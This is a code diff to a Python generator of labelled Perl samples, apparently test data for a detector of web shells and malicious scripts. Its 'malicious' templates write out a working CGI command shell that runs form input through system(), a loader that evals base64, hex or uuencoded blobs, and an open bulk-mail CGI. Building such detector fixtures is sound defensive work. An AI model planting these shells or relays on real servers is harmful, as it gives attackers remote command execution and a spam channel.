@@ -581,6 +581,86 @@ def t_walk_writer(g, php_file):
     return php_file(g, "$root = $_SERVER['DOCUMENT_ROOT'];\n" + walk + w + "}\n")
 
 
+# ------------------------------------------------ Perl: look-alikes and shapes
+
+
+def b_pl_comment_eval(g, php_file):
+    """A Perl tool that explains its remote wrapper in a comment (eval pack 'H*', eval
+    decode_base64) and builds the command without those words in the code."""
+    r = g.rng
+    g.lang = "pl"
+    word = r.choice(["eval pack 'H*', join '',@ARGV", "eval(decode_base64(join'',@ARGV))",
+                     "eval unpack 'u', $blob"])
+    g.transforms.add("pl_comment:" + ("pack" if "pack" in word else "b64"))
+    return ("#!/usr/bin/perl\nuse strict;\nuse warnings;\n\nsub remote_wrap {\n    my $cmd = join('', @_);\n"
+            "    my $hex = unpack 'H*', $cmd;\n    # Explanation:\n    # Write this without special chars: %s\n"
+            "    # so that the remote shell passes it unchanged\n"
+            "    return 'perl -e ' . q{eval+pack+q/H10000000/,join+q//,@ARGV} . ' ' . $hex;\n}\n\n"
+            "print remote_wrap('print 1'), \"\\n\";\n" % word)
+
+
+def t_pl_decode_eval(g, php_file):
+    """The same words as code: a Perl loader evaluating what it decodes."""
+    r = g.rng
+    g.lang = "pl"
+    blob = "cHJpbnQgImhlbGxvXG4iOw=="
+    form = r.choice(["b64", "hex", "uu"])
+    g.transforms.add("pl_eval:" + form)
+    code = {"b64": "use MIME::Base64;\neval(decode_base64('%s'));\n" % blob,
+            "hex": "my $p = '7072696e74202268656c6c6f5c6e223b';\neval pack 'H*', $p;\n",
+            "uu": "eval unpack 'u', q{%s};\n" % "7<')I;G0@(FAE;&QO7&XB.P``"}[form]
+    return "#!/usr/bin/perl\n# cache warmer\n" + code
+
+
+def b_pl_cgi_fixed_prog(g, php_file):
+    """A CGI that runs a fixed program named in its own settings (a certificate
+    request signer); the form only fills a request file."""
+    r = g.rng
+    g.lang = "pl"
+    prog = r.choice(['"/usr/bin/openssl ca"', '"/usr/local/bin/rrdtool graph"', '"/usr/bin/convert"'])
+    return ("#!/usr/bin/perl\n$config = \"/etc/app/app.cnf\";\n$tool = %s;\n$out = \"/tmp/app/out\" . rand 10000;\n"
+            "&ReadForm;\nopen(REQ, \">$out.req\") || die;\nprint REQ \"CN = $FIELDS{'who'}\\n\";\nclose(REQ);\n"
+            "system(\"$tool -batch -config $config -in $out.req -out $out 2>&1\");\n"
+            "print \"Content-type: application/octet-stream\\n\\n\";\nopen(O, $out);\nprint <O>;\n\n"
+            "sub ReadForm {\n    if ($ENV{'REQUEST_METHOD'} eq 'GET') {\n        @pairs = split(/&/, $ENV{'QUERY_STRING'});\n    }\n"
+            "    foreach $pair (@pairs) {\n        ($n, $v) = split(/=/, $pair);\n        $FIELDS{$n} = $v;\n    }\n}\n\n"
+            "sub Error {\n    print \"Content-type: text/html\\n\\n<h1>error</h1>\";\n}\n" % prog)
+
+
+def t_pl_cgi_shell(g, php_file):
+    """A Perl CGI command shell: a form to type the command, system() of it."""
+    r = g.rng
+    g.lang = "pl"
+    v = r.choice(["$c", "$run", "$x"])
+    return ("#!/usr/bin/perl\nuse CGI;\n$q = CGI->new;\n%s = $q->param('q');\n"
+            "print \"Content-type: text/html\\n\\n\";\n"
+            "print '<form method=post><input name=q><input type=submit></form><pre>';\n"
+            "system(%s) if %s;\nprint '</pre>';\n" % (v, v, v))
+
+
+def b_pl_monitor_alerts(g, php_file):
+    """A monitoring CGI: splits a dotted target path from the form, mails alerts to
+    the addresses of its configuration in a loop."""
+    g.lang = "pl"
+    return ("#!/usr/bin/perl\nuse CGI;\nuse Net::SMTP;\nmy $q = CGI->new;\n"
+            "my @target = split /\\./, $q->param('target');\nforeach my $step (@target) {\n    $node = $node->{$step};\n}\n"
+            "foreach my $to (split /\\s*,\\s*/, $cfg->{Alerts}{to}) {\n    my $smtp = Net::SMTP->new($cfg->{mailhost});\n"
+            "    $smtp->mail($cfg->{from});\n    $smtp->to($to);\n    $smtp->data(\"To: $to\\nSubject: alert\\n\\n$msg\");\n"
+            "    $smtp->quit;\n}\n")
+
+
+def t_pl_cgi_mailer(g, php_file):
+    """A Perl CGI bulk mailer: the recipients split from a form field."""
+    r = g.rng
+    g.lang = "pl"
+    sep = r.choice(["/\\r?\\n/", "/,/", "/[\\s,;]+/", "\"\\n\""])
+    g.transforms.add("sep:" + sep)
+    return ("#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy @to = split(%s, $q->param('emails'));\n"
+            "foreach my $rcpt (@to) {\n    open(MAIL, '|/usr/sbin/sendmail -t');\n"
+            "    print MAIL \"To: $rcpt\\nSubject: \" . $q->param('subject') . \"\\n\\n\" . $q->param('body');\n"
+            "    close(MAIL);\n}\nprint \"Content-type: text/html\\n\\nsent\";\n" % sep)
+
+
 def benign_templates(php_file):
     """The (name, fn, class, lang, expect) rows, each fn bound to php_file."""
     def bind(fn):
@@ -598,6 +678,9 @@ def benign_templates(php_file):
         ("upload_checked", bind(b_upload_checked), "benign", "php", "none"),
         ("inline_asset", bind(b_inline_asset), "benign", "php", "none"),
         ("page_writer", bind(b_page_writer), "benign", "php", "none"),
+        ("pl_comment_eval", bind(b_pl_comment_eval), "benign", "pl", "none"),
+        ("pl_cgi_fixed_prog", bind(b_pl_cgi_fixed_prog), "benign", "pl", "none"),
+        ("pl_monitor_alerts", bind(b_pl_monitor_alerts), "benign", "pl", "none"),
         ("argv_command", bind(t_argv_command), "malicious", "php", "high"),
         ("escape_no_protect", bind(t_escape_no_protect), "malicious", "php", "high"),
         # an injection in an admin tool's ssh line, not a back door: found, medium
@@ -607,6 +690,9 @@ def benign_templates(php_file):
         ("tpl_infector", bind(t_tpl_infector), "malicious", "php", "high"),
         ("walk_writer", bind(t_walk_writer), "malicious", "php", "high"),
         ("upload_unchecked", bind(t_upload_unchecked), "malicious", "php", "high"),
+        ("pl_decode_eval", bind(t_pl_decode_eval), "malicious", "pl", "high"),
+        ("pl_cgi_shell", bind(t_pl_cgi_shell), "malicious", "pl", "high"),
+        ("pl_cgi_mailer", bind(t_pl_cgi_mailer), "malicious", "pl", "high"),
     ]
 
 
@@ -625,13 +711,15 @@ def main():
     out = gv.safe_out_dir(a.out)
     os.makedirs(out, exist_ok=True)
     rows = []
-    for name, fn, cls, lang, expect in benign_templates(gv.php_file):
+    for name, fn, cls, lang0, expect in benign_templates(gv.php_file):
         for i in range(a.per):
+            lang = lang0
             tag = "%s:%s:%d" % (a.seed, name, i)
             g = Gen(random.Random(tag), noise=True)
             g.malicious = cls == "malicious"
             g.lang = lang
             text = fn(g)
+            lang = g.lang
             fname = hashlib.sha256(tag.encode()).hexdigest()[:12] + "." + lang
             with open(os.path.join(out, fname), "wb") as f:
                 f.write(text.encode("latin-1"))
